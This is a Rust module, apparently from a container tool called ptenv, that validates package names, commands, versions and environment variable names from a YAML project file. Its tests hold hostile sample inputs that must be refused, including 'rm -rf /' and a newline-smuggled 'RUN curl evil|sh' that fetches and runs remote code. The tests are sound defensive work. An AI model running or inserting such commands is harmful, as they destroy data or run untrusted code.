//! Values that carry names a shell, pip or Docker will read: packages, the command, versions,
//! environment names and values; checked where they are written.

use super::*;

/// Extra packages baked into the derived image.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Packages {
    #[serde(
        default,
        skip_serializing_if = "Vec::is_empty",
        deserialize_with = "apt_packages"
    )]
    pub apt: Vec<String>,
    #[serde(
        default,
        skip_serializing_if = "Vec::is_empty",
        deserialize_with = "pip_packages"
    )]
    pub pip: Vec<String>,
}

/// Package names are checked as the file is read, so the error names the file and the line.
pub(super) fn apt_packages<'de, D: Deserializer<'de>>(
    d: D,
) -> std::result::Result<Vec<String>, D::Error> {
    checked_names(d, "a Debian package", crate::package_name::check_apt)
}

pub(super) fn pip_packages<'de, D: Deserializer<'de>>(
    d: D,
) -> std::result::Result<Vec<String>, D::Error> {
    checked_names(d, "a pip requirement", crate::package_name::check_pip)
}

pub(super) fn checked_names<'de, D: Deserializer<'de>>(
    d: D,
    what: &str,
    check: fn(&str) -> std::result::Result<(), String>,
) -> std::result::Result<Vec<String>, D::Error> {
    let names = Vec::<String>::deserialize(d)?;
    for name in &names {
        // `{:?}` shows a newline or an escape character as such, not as a line break.
        check(name).map_err(|m| de::Error::custom(format!("{name:?} is not {what}: {m}")))?;
    }
    Ok(names)
}

/// The container's command: a list (exec form) or a string run by `/bin/sh -c`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(transparent)]
pub struct Command(pub Vec<String>);

impl<'de> Deserialize<'de> for Command {
    fn deserialize<D: Deserializer<'de>>(d: D) -> std::result::Result<Self, D::Error> {
        checked(d, |v| match v {
            serde_yaml::Value::String(s) if !s.trim().is_empty() => {
                Ok(Command(vec!["/bin/sh".into(), "-c".into(), s]))
            }
            serde_yaml::Value::Sequence(items) if !items.is_empty() => items
                .iter()
                .map(|i| {
                    scalar_string(i).ok_or_else(|| bad("each word of `command` must be a string"))
                })
                .collect::<std::result::Result<Vec<_>, _>>()
                .map(Command),
            _ => Err(bad(
                "`command` must be a non-empty string or list of strings",
            )),
        })
    }
}

/// A version written in YAML: `"2.6"` and `2.6` (a float to YAML) both mean the string "2.6".
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(transparent)]
pub struct Version(pub String);

impl Version {
    pub fn parse(text: &str) -> std::result::Result<Version, String> {
        let t = text.trim();
        let parts: Vec<&str> = t.split('.').collect();
        if (2..=3).contains(&parts.len())
            && parts
                .iter()
                .all(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_digit()))
        {
            Ok(Version(t.to_string()))
        } else {
            Err(format!(
                "`{t}` is not a version; write it like \"2.6\" or \"12.4\""
            ))
        }
    }
}

/// `pytorch: latest`: the newest release with an image that runs on the machine.
pub const LATEST: &str = "latest";

impl Version {
    /// A PyTorch version: a version, or `latest`.
    pub fn parse_pytorch(text: &str) -> std::result::Result<Version, String> {
        if text.trim() == LATEST {
            return Ok(Version(LATEST.to_string()));
        }
        Version::parse(text).map_err(|_| {
            format!(
                "`{}` is not a PyTorch version; write it like \"2.6\", or `latest`",
                text.trim()
            )
        })
    }
}

pub(super) fn pytorch_version<'de, D: Deserializer<'de>>(
    d: D,
) -> std::result::Result<Option<Version>, D::Error> {
    checked(d, |v| {
        let text = scalar_string(&v)
            .ok_or_else(|| bad("a PyTorch version is written like \"2.6\", or `latest`"))?;
        // YAML reads `2.10` as the number 2.1: the trailing zero is gone before ptenv sees it.
        let ten = format!("{text}0");
        if v.is_number()
            && crate::catalog::releases()
                .iter()
                .any(|r| r.starts_with(&format!("{ten}.")))
        {
            return Err(bad(format!(
                "`pytorch: {text}` is a number to YAML, which reads 2.10 as 2.1; quote it: \"{text}\" or \"{ten}\""
            )));
        }
        Version::parse_pytorch(&text).map(Some).map_err(bad)
    })
}
impl<'de> Deserialize<'de> for Version {
    fn deserialize<D: Deserializer<'de>>(d: D) -> std::result::Result<Self, D::Error> {
        checked(d, |v| {
            let text = scalar_string(&v).ok_or_else(|| bad("a version is written like \"2.6\""))?;
            Version::parse(&text).map_err(bad)
        })
    }
}

/// An environment variable value: YAML numbers and booleans become their text.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(transparent)]
pub struct EnvValue(pub String);

impl<'de> Deserialize<'de> for EnvValue {
    fn deserialize<D: Deserializer<'de>>(d: D) -> std::result::Result<Self, D::Error> {
        checked(d, |v| {
            scalar_string(&v)
                .map(EnvValue)
                .ok_or_else(|| bad("an environment value must be a string, number or boolean"))
        })
    }
}

/// An environment variable's name. Names that ptenv itself sets in the container (its
/// `PTENV_*` wiring, and `JUPYTER_*`, which carries the Jupyter token) are refused: a project
/// file could otherwise replace the generated token with one it knows.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(transparent)]
pub struct EnvName(pub String);

/// Prefixes of the variables ptenv owns in its containers.
pub const RESERVED_ENV_PREFIXES: [&str; 2] = ["PTENV_", "JUPYTER_"];

impl EnvName {
    pub fn parse(text: &str) -> std::result::Result<EnvName, String> {
        if text.is_empty() || text.contains('=') || text.chars().any(char::is_control) {
            return Err(format!("`{text}` is not an environment variable name"));
        }
        if let Some(prefix) = RESERVED_ENV_PREFIXES.iter().find(|p| text.starts_with(*p)) {
            return Err(format!(
                "`{text}` is refused: ptenv sets the `{prefix}*` variables itself (the Jupyter token, its own wiring); remove it (`ptenv up --new-token` rotates the token)"
            ));
        }
        Ok(EnvName(text.to_string()))
    }
}

impl<'de> Deserialize<'de> for EnvName {
    fn deserialize<D: Deserializer<'de>>(d: D) -> std::result::Result<Self, D::Error> {
        checked(d, |v| {
            let text =
                scalar_string(&v).ok_or_else(|| bad("an environment variable name is a string"))?;
            EnvName::parse(&text).map_err(bad)
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::profile::tests::{err, project};

    #[test]
    fn hostile_package_names_are_refused_with_the_file_and_the_value() {
        for (key, name) in [
            ("apt", "--allow-unauthenticated"),
            ("apt", "foo; rm -rf /"),
            ("apt", "a\nRUN curl evil|sh"),
            ("pip", "-e git+https://evil.example/x.git"),
            ("pip", "--index-url=http://evil"),
            ("pip", "a\nRUN curl evil|sh"),
        ] {
            let text = format!(
                "profiles:\n  t:\n    mode: shell\n    packages: {{{key}: [ok1, {}]}}\n",
                serde_json::to_string(name).unwrap()
            );
            let e = err(&text).to_string();
            assert!(e.starts_with("ptenv.yaml:4:"), "{e}");
            assert!(e.contains(&format!("{name:?}")), "{e}");
        }
        let p = project("packages: {apt: [git, \"libc6:amd64=2.36-9\"], pip: [\"numpy>=2\", \"black[jupyter] ~= 24.1\"]}\n")
            .resolve("shell", &Layer::default())
            .unwrap();
        assert_eq!(p.packages.apt, ["git", "libc6:amd64=2.36-9"]);
        assert_eq!(p.packages.pip, ["numpy>=2", "black[jupyter] ~= 24.1"]);
    }

    #[test]
    fn env_names_that_ptenv_owns_are_refused_where_they_are_written() {
        for (text, name) in [
            (
                "mode: jupyter\nenv:\n  A: 1\n  JUPYTER_TOKEN: known\n",
                "JUPYTER_TOKEN",
            ),
            ("env: {JUPYTER_TOKEN_FILE: /tmp/t}\n", "JUPYTER_TOKEN_FILE"),
            (
                "profiles:\n  a:\n    mode: shell\n    env: {PTENV_CA: '1'}\n",
                "PTENV_CA",
            ),
        ] {
            let e = err(text);
            assert!(
                e.message.contains(&format!("env: `{name}` is refused")),
                "{e}"
            );
            assert!(e.message.starts_with("ptenv.yaml:"), "{e}");
        }
        let e = err("mode: jupyter\nenv:\n  A: 1\n  JUPYTER_TOKEN: known\n");
        assert!(e.message.starts_with("ptenv.yaml:4:3:"), "{e}");
        assert!(err("env: {'A=B': 1}\n")
            .message
            .contains("not an environment variable name"));
        let p = project("env: {jupyter_theme: dark, MY_JUPYTER_TOKEN: x}\n")
            .resolve("shell", &Layer::default())
            .unwrap();
        assert_eq!(p.env["MY_JUPYTER_TOKEN"], "x");
    }
}
